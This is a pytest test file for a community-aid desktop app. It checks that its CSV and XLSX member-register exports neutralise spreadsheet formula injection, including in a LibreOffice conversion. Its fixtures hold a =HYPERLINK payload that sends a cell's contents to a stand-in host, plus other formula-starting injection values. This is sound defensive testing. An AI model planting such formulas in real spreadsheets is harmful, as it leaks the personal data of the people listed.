"""Finding 4 replayed: cells typed by people never become formulas in a CSV or XLSX export."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from entraide_desktop.data import members
from entraide_desktop.documents.members import write_register
from entraide_desktop.documents.spreadsheet import neutralise, write_csv, write_xlsx

ATTACK = '=HYPERLINK("http://exemple.invalid/?x="&H2,"Voir la fiche")'
HOSTILE = [ATTACK, "=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]


@pytest.fixture
def hostile_store(store):
    members.create_person(store, {"first_name": "Eve", "notes": ATTACK, "address": "@SUM(1)", "contact_hours": "=1+1"})
    members.create_person(store, {"first_name": "Zoé", "notes": "-2+3"})
    return store


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Alice", "514 555-0101", "a=b", "", "'déjà"])
def test_ordinary_values_are_kept_as_they_are(value):
    assert neutralise(value) == value


def test_csv_export_quotes_every_hostile_cell_and_keeps_the_french_excel_dialect(hostile_store, tmp_path):
    target = tmp_path / "registre.csv"
    write_register(hostile_store, target, "csv")
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 3 and b"\n" not in raw.replace(b"\r\n", b"")
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + ATTACK in cells and "'=1+1" in cells and "'-2+3" in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_shared_csv_writer_neutralises_headers_too(tmp_path):
    target = tmp_path / "t.csv"
    write_csv(["=titre"], [["\r=1", "+1"]], target)
    text = target.read_bytes().decode("utf-8-sig")
    assert text == "'=titre\r\n\"'\r=1\";'+1\r\n"


def _formula_cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_xlsx_export_has_no_formula_cell_and_the_email_is_plain_text(hostile_store, tmp_path):
    from openpyxl import load_workbook

    target = tmp_path / "registre.xlsx"
    write_register(hostile_store, target, "xlsx")
    assert _formula_cells(target) == []
    with zipfile.ZipFile(target) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    values = [c.value for row in load_workbook(target).active.iter_rows() for c in row]
    assert ATTACK in values and "=1+1" in values


def test_the_shared_xlsx_writer_never_writes_a_formula(tmp_path):
    target = tmp_path / "t.xlsx"
    write_xlsx(["=A"], [HOSTILE], target, "Feuille: [test]")
    assert _formula_cells(target) == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) n'est pas installé ici (sous Wine, par exemple)")
@pytest.mark.parametrize("source", ["csv", "xlsx"])
def test_libreoffice_opens_the_export_without_any_formula(hostile_store, tmp_path, source):
    from openpyxl import load_workbook

    exported = tmp_path / f"registre.{source}"
    write_register(hostile_store, exported, source)
    out = tmp_path / "converted"
    out.mkdir()
    target = "xlsx:Calc MS Excel 2007 XML"
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
               "--convert-to", target, "--outdir", str(out)]
    if source == "csv":  # separator ; (59), text in " (34), UTF-8 (76), from line 1
        command += ["--infilter=CSV:59,34,76,1"]
    subprocess.run([*command, str(exported)], check=True, capture_output=True, timeout=180)
    converted = out / "registre.xlsx"
    assert converted.exists()
    assert _formula_cells(converted) == []
    values = [str(c.value) for row in load_workbook(converted).active.iter_rows() for c in row if c.value is not None]
    assert any("HYPERLINK" in v for v in values), "the e-mail is kept as plain text"
    assert "2" not in values, "=1+1 was not computed"


def test_numbers_and_dates_keep_their_type_and_are_never_quoted(tmp_path):
    import datetime as dt
    from decimal import Decimal

    from openpyxl import load_workbook

    assert neutralise(-5) == "-5" and neutralise(Decimal("-12.50")) == "-12.50" and neutralise(True) == "True"
    target = tmp_path / "montants.xlsx"
    write_xlsx(["Montant", "Payé le", "Note"], [[-5, dt.date(2026, 12, 5), "-5"]], target, "Cotisations")
    cells = list(load_workbook(target).active.iter_rows(min_row=2, values_only=False))[0]
    assert [c.data_type for c in cells] == ["n", "d", "s"]
    assert cells[0].value == -5 and cells[2].value == "-5"
    assert _formula_cells(target) == []
